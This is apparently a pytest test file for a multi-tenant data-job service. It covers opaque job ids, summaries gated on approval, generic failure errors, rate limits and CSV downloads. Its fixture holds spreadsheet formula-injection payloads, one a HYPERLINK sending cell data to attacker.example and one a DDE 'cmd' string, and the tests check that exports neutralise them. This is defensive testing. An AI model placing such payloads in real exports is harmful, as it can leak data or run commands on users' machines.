"""What a submitter can observe of a job (policy P8, api.md "Additions"), through the real
app and database (SQLite, and PostgreSQL when configured), without Spark: job ids that
count nothing, summaries only after approval, one generic failure class, CSV downloads
that neutralise formulas, and the per-merchant submission limit.

Jobs are moved through their states with the lifecycle functions the worker uses; outputs
are real encrypted outputs (sandbox.output). Runs with Spark are in test_jobs_worker.py.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import timedelta

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from sqlalchemy import update
from web_support import api_token, bearer, page_login, populate

import audit
from jobs import lifecycle, ratelimit
from jobs.queue import give_back, worker_actor
from jobs.service import actor_for
from sandbox.crypto import KeyStore
from sandbox.output import store_output
from web import create_app
from yushan.accounts import get_tenant
from yushan.config import set_config
from yushan.db import session_scope
from yushan.models import MAX_JOB_ID, MIN_JOB_ID, Job, JobOutput, JobState
from yushan.models import User as UserModel

READS_CONSUMERS = {"decision": "allow", "violations": [], "datasets_read": ["platform.consumers"],
                   "release": "threshold"}
READS_OWN_DATA = {"decision": "allow", "violations": [], "datasets_read": ["hanfu_house.members"],
                  "release": None}
ROWS = pa.table({
    "note": ['=HYPERLINK("http://attacker.example/?"&A3,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1", "-x", "\tx", "\rx", "plain", "城市", None],
    "n": pa.array([-5, 3, 0, 1, 2, 3, 4, 5, 6], pa.int64()),
    "share": [-0.5, 1.25, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
})


@pytest.fixture
def world(any_db_config):
    populate(any_db_config)
    app = create_app(any_db_config)
    set_config(any_db_config)  # the command line reads the process-wide configuration
    client = app.test_client()
    tokens = {u: api_token(client, u) for u in ("hanfu_owner", "tea_owner", "insight_isv", "other_isv")}
    yield any_db_config, app, client, tokens
    set_config(None)


def _user(session, username: str) -> UserModel:
    from sqlalchemy import select

    return session.scalar(select(UserModel).where(UserModel.username == username))


def new_job(config, username: str, merchant: str, decision: dict | None = READS_CONSUMERS,
            kind: str = "aggregate") -> int:
    with session_scope(config) as session:
        submitter = _user(session, username)
        job = lifecycle.create(
            session, merchant_id=get_tenant(session, merchant).id, submitter_id=submitter.id,
            kind=kind, sql="SELECT 1 AS x", name="t", decision=decision,
            actor=actor_for(submitter, "pytest"))
        return job.id


def start(session, job_id: int) -> Job:
    job = session.get(Job, job_id)
    return lifecycle.transition(session, job, JobState.RUNNING, actor=worker_actor(),
                                values={"lease_owner": "w", "attempts": job.attempts + 1})


def release(config, job_id: int, table: pa.Table = ROWS, released: int = 9, suppressed: int = 4) -> None:
    """What the worker records for a released job: an encrypted output awaiting approval."""
    plain = config.workspaces_dir / f"plain-{job_id}.parquet"
    pq.write_table(table, plain)
    stored = store_output(config, KeyStore(config.master_key_path), job_id, plain)
    plain.unlink()
    with session_scope(config) as session:
        job = start(session, job_id)
        session.add(JobOutput(job_id=job_id, storage_path=stored.storage_path, wrapped_key=stored.wrapped_key,
                              content_hash=stored.content_hash, columns=[], row_count=released,
                              suppressed_rows=suppressed, byte_size=stored.byte_size))
        lifecycle.transition(session, job, JobState.AWAITING_APPROVAL, actor=worker_actor(),
                             values={"released_rows": released, "suppressed_rows": suppressed})


def get(client, token, job_id, suffix=""):
    return client.get(f"/api/v1/jobs/{job_id}{suffix}", headers=bearer(token))


# ---------------------------------------------------------------- opaque ids


def test_ids_of_two_tenants_interleaved_show_no_counter(world):
    config, _, client, t = world
    order = ["hanfu_house", "tea_garden", "tea_garden", "tea_garden", "hanfu_house"]
    who = {"hanfu_house": "hanfu_owner", "tea_garden": "tea_owner"}
    ids = [new_job(config, who[m], m) for m in order]
    assert len(set(ids)) == 5 and all(MIN_JOB_ID <= i <= MAX_JOB_ID for i in ids)
    # acceptance ISO-4's reading: tea's ids between hanfu's two, and a gap that counts them
    a, b, tea = ids[0], ids[-1], ids[1:4]
    assert not (all(a < x < b for x in tea) and b - a - 1 < 1000), ids
    # JSON keeps them exact (below 2**53), and each is the job's address
    for job_id, merchant in zip(ids, order, strict=True):
        doc = get(client, t[who[merchant]], job_id).get_json()
        assert doc["id"] == job_id and isinstance(doc["id"], int)


def test_job_list_is_newest_first_by_creation_not_by_id(world):
    config, _, client, t = world
    ids = [new_job(config, "hanfu_owner", "hanfu_house") for _ in range(4)]
    listed = [j["id"] for j in client.get("/api/v1/jobs", headers=bearer(t["hanfu_owner"])).get_json()["jobs"]]
    assert listed == list(reversed(ids))


@pytest.mark.parametrize("path", ["", "/result?format=csv", "/approve", "/cancel", "/segments"])
def test_huge_malformed_and_foreign_ids_answer_exactly_like_a_missing_job(world, path):
    config, _, client, t = world
    foreign = new_job(config, "tea_owner", "tea_garden")
    own = new_job(config, "hanfu_owner", "hanfu_house")
    method = client.post if path in ("/approve", "/cancel") else client.get
    answers = {}
    for bad in [2**63, 2**63 - 1, 2**64 + 5, 10**40, MAX_JOB_ID + 1, 0, own + 1, foreign,
                "-5", "abc", "1e9", "0x10", "%20"]:
        response = method(f"/api/v1/jobs/{bad}{path}", headers=bearer(t["hanfu_owner"]))
        answers[str(bad)] = (response.status_code, response.get_json())
    assert set(map(str, answers.values())) == {str((404, {"error": {"code": "not_found", "message": "Not found."}}))}, answers
    assert get(client, t["hanfu_owner"], own).status_code == 200


def test_pages_and_cli_treat_huge_ids_as_missing(world):
    config, app, _, _ = world
    from jobs.cli import approve_command, download_command

    browser = app.test_client()
    page_login(browser, "hanfu_owner")
    for bad in (2**63, 2**64, 10**30):
        assert browser.get(f"/jobs/{bad}").status_code == 404
        assert browser.get(f"/jobs/{bad}/status.json").status_code == 404
        assert browser.get(f"/jobs/{bad}/download?format=csv").status_code == 404
        assert browser.get(f"/templates/jobs/{bad}").status_code == 404
    runner = CliRunner()
    for command in (approve_command, download_command):
        result = runner.invoke(command, [str(2**64), "--as", "hanfu_owner"])
        assert result.exit_code == 1 and "no job" in result.output, result.output


# ---------------------------------------------------------------- summaries


def test_summary_is_null_before_approval_then_shown_to_those_who_may_see_the_rows(world):
    config, app, client, t = world
    job_id = new_job(config, "insight_isv", "hanfu_house")
    release(config, job_id, released=9, suppressed=4)
    for who in ("insight_isv", "hanfu_owner"):  # submitter and merchant alike, before approval
        doc = get(client, t[who], job_id).get_json()
        assert doc["state"] == "awaiting_approval" and doc["summary"] is None
    listed = client.get("/api/v1/jobs", headers=bearer(t["insight_isv"])).get_json()["jobs"]
    assert [j["summary"] for j in listed if j["id"] == job_id] == [None]
    provider_page = app.test_client()
    page_login(provider_page, "insight_isv")
    html = provider_page.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert re.search(r'id="released-rows">—<', html) and re.search(r'id="suppressed-rows">—<', html)
    merchant_page = app.test_client()
    page_login(merchant_page, "hanfu_owner")
    approvals = merchant_page.get("/approvals").get_data(as_text=True)
    assert f'id="approval-{job_id}"' in approvals and "Suppressed rows" not in approvals

    assert client.post(f"/api/v1/jobs/{job_id}/approve", headers=bearer(t["hanfu_owner"])).status_code == 200
    for who in ("hanfu_owner", "insight_isv"):  # insight_isv's authorisation has view_results
        assert get(client, t[who], job_id).get_json()["summary"] == {"released_rows": 9, "suppressed_rows": 4}
    html = provider_page.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert 'id="released-rows">9<' in html and 'id="suppressed-rows">4<' in html


def test_a_provider_without_view_results_never_sees_the_summary(world):
    config, app, client, t = world
    job_id = new_job(config, "other_isv", "tea_garden")  # tea_garden granted no view_results
    release(config, job_id, released=2, suppressed=1)
    assert client.post(f"/api/v1/jobs/{job_id}/approve", headers=bearer(t["tea_owner"])).status_code == 200
    assert get(client, t["tea_owner"], job_id).get_json()["summary"] == {"released_rows": 2, "suppressed_rows": 1}
    doc = get(client, t["other_isv"], job_id).get_json()
    assert doc["state"] == "approved" and doc["summary"] is None
    page = app.test_client()
    page_login(page, "other_isv")
    html = page.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert 'id="released-rows">—<' in html
    assert page.get(f"/jobs/{job_id}/status.json").get_json()["summary"] is None


def test_dp_jobs_never_report_the_suppressed_count(world):
    config, _, client, t = world
    job_id = new_job(config, "insight_isv", "hanfu_house", decision={**READS_CONSUMERS, "release": "dp"})
    release(config, job_id, released=5, suppressed=3)
    client.post(f"/api/v1/jobs/{job_id}/approve", headers=bearer(t["hanfu_owner"]))
    for who in ("hanfu_owner", "insight_isv"):
        assert get(client, t[who], job_id).get_json()["summary"] == {"released_rows": 5, "suppressed_rows": None}


def test_segment_sizes_follow_the_same_rule(world):
    config, app, client, t = world
    job_id = new_job(config, "insight_isv", "hanfu_house", kind="segment")
    members = pa.table({"segment": ["gold"] * 3 + ["silver"] * 2, "member": ["a", "b", "c", "d", "e"]})
    release(config, job_id, table=members, released=5, suppressed=0)
    path = f"/api/v1/jobs/{job_id}/segments"
    assert client.get(path, headers=bearer(t["insight_isv"])).status_code == 404  # before approval
    sizes = client.get(path, headers=bearer(t["hanfu_owner"])).get_json()["segments"]  # it decides on them
    assert sizes == [{"segment": "gold", "members": 3}, {"segment": "silver", "members": 2}]
    page = app.test_client()
    page_login(page, "insight_isv")
    assert f'id="segments-{job_id}"' not in page.get(f"/jobs/{job_id}").get_data(as_text=True)
    client.post(f"/api/v1/jobs/{job_id}/approve", headers=bearer(t["hanfu_owner"]))
    assert client.get(path, headers=bearer(t["insight_isv"])).get_json()["segments"] == sizes
    assert f'id="segments-{job_id}"' in page.get(f"/jobs/{job_id}").get_data(as_text=True)


# ---------------------------------------------------------------- failures


def fail(config, job_id: int, error: dict, detail: str = "") -> None:
    """What the worker records when the run failed (jobs.worker.Worker._record)."""
    with session_scope(config) as session:
        job = start(session, job_id)
        lifecycle.transition(session, job, JobState.FAILED, actor=worker_actor(),
                             details={"error": error, "detail": detail}, values={"error": error})


@pytest.mark.parametrize("error", [
    {"class": "DIVIDE_BY_ZERO", "message": "a division by zero happened while the job ran"},
    {"class": "CAST_INVALID_INPUT", "message": "a value could not be cast"},
    {"class": "TimeLimitExceeded", "message": "the job ran longer than 900 s"},
    {"class": "MemoryLimitExceeded", "message": "the job used more than 6144 MiB"},
])
def test_a_failed_consumer_data_job_shows_one_generic_class_and_the_audit_keeps_the_detail(world, error):
    config, app, client, t = world
    job_id = new_job(config, "insight_isv", "hanfu_house")
    with session_scope(config) as session:  # it got part of the way
        session.execute(update(Job).where(Job.id == job_id).values(progress=0.37))
    fail(config, job_id, error, detail="Traceback ... value 13800000000")
    doc = get(client, t["insight_isv"], job_id).get_json()
    assert doc["state"] == "failed" and doc["progress"] == 1.0 and "attempts" not in doc
    assert doc["error"] == {"class": "JobFailed", "message": "The job could not be completed."}
    page = app.test_client()
    page_login(page, "insight_isv")
    html = page.get(f"/jobs/{job_id}").get_data(as_text=True)
    assert "JobFailed" in html and error["class"] not in html
    with session_scope(config) as session:
        (entry,) = audit.query(session, job=job_id, action="job.fail")
    assert entry["details"]["error"] == error and "13800000000" in entry["details"]["detail"]


def test_a_job_that_read_no_consumer_data_keeps_its_specific_error(world):
    config, _, client, t = world
    own = new_job(config, "hanfu_owner", "hanfu_house", decision=READS_OWN_DATA)
    fail(config, own, {"class": "CAST_INVALID_INPUT", "message": "a value could not be cast"})
    assert get(client, t["hanfu_owner"], own).get_json()["error"]["class"] == "CAST_INVALID_INPUT"
    # no decision known (it failed before the check answered): counts as consumer data
    unknown = new_job(config, "hanfu_owner", "hanfu_house", decision=None)
    fail(config, unknown, {"class": "CAST_INVALID_INPUT", "message": "a value could not be cast"})
    assert get(client, t["hanfu_owner"], unknown).get_json()["error"]["class"] == "JobFailed"


def test_a_consumer_data_job_lost_twice_with_its_worker_fails_generically(world):
    config, _, client, t = world
    job_id = new_job(config, "insight_isv", "hanfu_house")
    for _ in range(2):
        with session_scope(config) as session:
            job = start(session, job_id)
            give_back(session, job, reason="test", error_class="ExecutorCrashed",
                      message="the sandbox running this job stopped unexpectedly", owner="w")
    doc = get(client, t["insight_isv"], job_id).get_json()
    assert doc["state"] == "failed" and doc["error"]["class"] == "JobFailed"
    with session_scope(config) as session:
        (entry,) = audit.query(session, job=job_id, action="job.fail")
    assert entry["details"]["error"]["class"] == "ExecutorCrashed"


# ---------------------------------------------------------------- CSV downloads


def approved_with_rows(config, client, t) -> int:
    job_id = new_job(config, "insight_isv", "hanfu_house")
    release(config, job_id)
    assert client.post(f"/api/v1/jobs/{job_id}/approve", headers=bearer(t["hanfu_owner"])).status_code == 200
    return job_id


def test_csv_downloads_neutralise_formula_text_and_keep_numbers(world):
    config, app, client, t = world
    job_id = approved_with_rows(config, client, t)
    response = get(client, t["hanfu_owner"], job_id, "/result?format=csv")
    assert response.status_code == 200
    body = response.get_data()
    assert not body.startswith(b"\xef\xbb\xbf") and b"\r\n" not in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows[0] == ["note", "n", "share"]
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://attacker.example/?"&A3,"open")', "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1", "'-x", "'\tx", "'\rx", "plain", "城市", ""]
    assert [r[1] for r in rows[1:3]] == ["-5", "3"] and rows[1][2] == "-0.5"  # numbers stay numbers
    # the same file from the page and from the command line
    page = app.test_client()
    page_login(page, "hanfu_owner")
    assert page.get(f"/jobs/{job_id}/download?format=csv").get_data() == body
    from jobs.cli import download_command

    out = CliRunner().invoke(download_command, [str(job_id), "--as", "hanfu_owner"])
    assert out.exit_code == 0 and out.stdout_bytes == body
    # JSON keeps the values as they are (nothing runs them)
    js = get(client, t["hanfu_owner"], job_id, "/result?format=json").get_json()
    assert js["rows"][0]["note"].startswith("=HYPERLINK") and js["rows"][0]["n"] == -5


def test_csv_for_excel_has_a_bom_and_crlf_line_ends(world):
    config, app, client, t = world
    job_id = approved_with_rows(config, client, t)
    plain = get(client, t["hanfu_owner"], job_id, "/result?format=csv").get_data()
    excel = get(client, t["hanfu_owner"], job_id, "/result?format=csv&excel=1").get_data()
    assert excel.startswith(b"\xef\xbb\xbf")
    text = excel[3:].decode("utf-8")
    assert text.count("\r\n") == 10 and "城市" in text
    assert list(csv.reader(io.StringIO(text))) == list(csv.reader(io.StringIO(plain.decode("utf-8"))))
    page = app.test_client()
    page_login(page, "hanfu_owner")
    html = page.get(f"/jobs/{job_id}").get_data(as_text=True)
    link = re.search(r'id="download-csv-excel" href="([^"]+)"', html)
    assert link, "the job page has no CSV for Excel link"
    assert page.get(link.group(1).replace("&amp;", "&")).get_data() == excel
    from jobs.cli import download_command

    out = CliRunner().invoke(download_command, [str(job_id), "--as", "hanfu_owner", "--excel"])
    assert out.exit_code == 0 and out.stdout_bytes == excel


# ---------------------------------------------------------------- rate limit


def test_submissions_past_the_merchants_limit_get_429_with_retry_after(world):
    config, _, _, t = world
    limited = dataclasses.replace(config, job_rate_limit=3)
    app = create_app(limited)
    client = app.test_client()
    ids = [new_job(config, "insight_isv", "hanfu_house") for _ in range(3)]
    with session_scope(config) as session:  # the oldest was submitted 59 minutes ago
        session.execute(update(Job).where(Job.id == ids[0])
                        .values(created_at=lifecycle.now() - timedelta(minutes=59)))
    before = ratelimit.refusals(limited, "hanfu_house")
    body = {"merchant": "hanfu_house", "kind": "aggregate", "sql": "SELECT 1 AS x"}
    for token in (t["insight_isv"], t["hanfu_owner"], t["insight_isv"]):
        response = client.post("/api/v1/jobs", json=body, headers=bearer(token))
        assert response.status_code == 429
        assert 1 <= int(response.headers["Retry-After"]) <= 61  # when the oldest leaves the hour
        error = response.get_json()["error"]
        assert error["code"] == "too_many_requests" and "try again in" in error["message"]
    assert ratelimit.refusals(limited, "hanfu_house") - before == 3
    with session_scope(config) as session:
        assert session.query(Job).count() == 3  # nothing queued
        entries = audit.query(session, action="job.rate_limit")
    assert len(entries) == 1 and entries[0]["objects"] == {"merchant": "hanfu_house"}  # not one per refusal
    assert entries[0]["details"]["limit"] == 3
    # another merchant's submissions are not counted against hanfu_house's
    with session_scope(limited) as session:
        ratelimit.check_rate(session, limited, get_tenant(session, "tea_garden"),
                             actor_for(_user(session, "tea_owner"), "pytest"))
    # the command line says so too
    from jobs.cli import submit_command

    set_config(limited)
    out = CliRunner().invoke(submit_command, ["--as", "insight_isv", "--merchant", "hanfu_house",
                                              "--kind", "aggregate", "--sql-file", "-"], input="SELECT 1 AS x")
    assert out.exit_code == 1 and "try again in" in out.output


def test_the_limit_is_configured_from_the_environment(monkeypatch, tmp_path):
    from yushan.config import Config, ConfigError

    assert Config.from_env(home=tmp_path).job_rate_limit == 240
    monkeypatch.setenv("YUSHAN_JOB_RATE_LIMIT", "10")
    assert Config.from_env(home=tmp_path).job_rate_limit == 10
    monkeypatch.setenv("YUSHAN_JOB_RATE_LIMIT", "lots")
    with pytest.raises(ConfigError, match="YUSHAN_JOB_RATE_LIMIT"):
        Config.from_env(home=tmp_path)
